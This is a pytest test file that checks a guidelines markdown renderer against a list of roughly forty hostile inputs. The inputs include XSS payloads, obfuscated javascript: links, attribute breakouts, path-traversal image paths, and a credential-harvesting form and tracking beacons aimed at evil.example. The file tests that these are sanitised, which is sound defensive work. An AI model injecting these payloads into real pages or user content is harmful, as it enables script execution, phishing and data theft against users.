import re

import pytest

from asknext.labelling.guidelines.rendering import rendered

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<a href='javascript:alert(1)' onclick=alert(1)>click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[click][x]",
    "![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![picture](https://evil.example/who-reads.png)",
    "![picture](//evil.example/who-reads.png)",
    "![picture](/api/v1/export)",
    "![picture](../../project.db)",
    "![picture](%2e%2e/%2e%2e/project.db)",
    '![picture](x.png "title\\" onerror=alert(1) x=\\"")',
    '![" onerror="alert(1)](x.png)',
    '[click](https://ok.example/" onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div id=main name=body class=dialog>clobbered</div>",
    "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>",
    '```html"><script>alert(1)</script>\nx\n```',
    "<!-- --!> <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "a\0<scr\0ipt>alert(1)</scr\0ipt>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_the_text_becomes_anything_but_text(text):
    made = rendered(text, "/api/v1/guidelines/media")
    tags = re.findall(r"<(/?\w+)([^>]*)>", made)
    assert {name.lstrip("/") for name, _ in tags} <= {"p", "a", "img", "code", "pre", "em", "strong", "br"}
    for _, attributes in tags:
        names = re.findall(r"([\w-]+)=\"", attributes)
        assert set(names) <= {"href", "src", "alt", "title", "rel", "target"}
        for address in re.findall(r'(?:href|src)="([^"]*)"', attributes):
            assert address.startswith(("https://ok.example/", "/api/v1/guidelines/media/")), address
            assert ".." not in address


def test_what_guidelines_need_is_there():
    made = rendered(
        "# Title\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n**bold** ~~gone~~ "
        "[link](https://example.com) ![cat](pictures/a%20cat.png)",
        "/p/media",
    )
    for part in ("<h1>Title</h1>", "<ol>", "<table>", "<th>a</th>", "<strong>bold</strong>", "<s>gone</s>"):
        assert part in made
    assert '<a href="https://example.com" target="_blank" rel="noopener noreferrer">link</a>' in made
    assert '<img src="/p/media/pictures/a%20cat.png" alt="cat">' in made


def test_a_very_long_text_is_cut_and_one_nested_deeply_is_read():
    assert len(rendered("x" * 300_000, "/m")) < 110_000
    assert rendered("> " * 400 + "deep", "/m").startswith("<blockquote>")
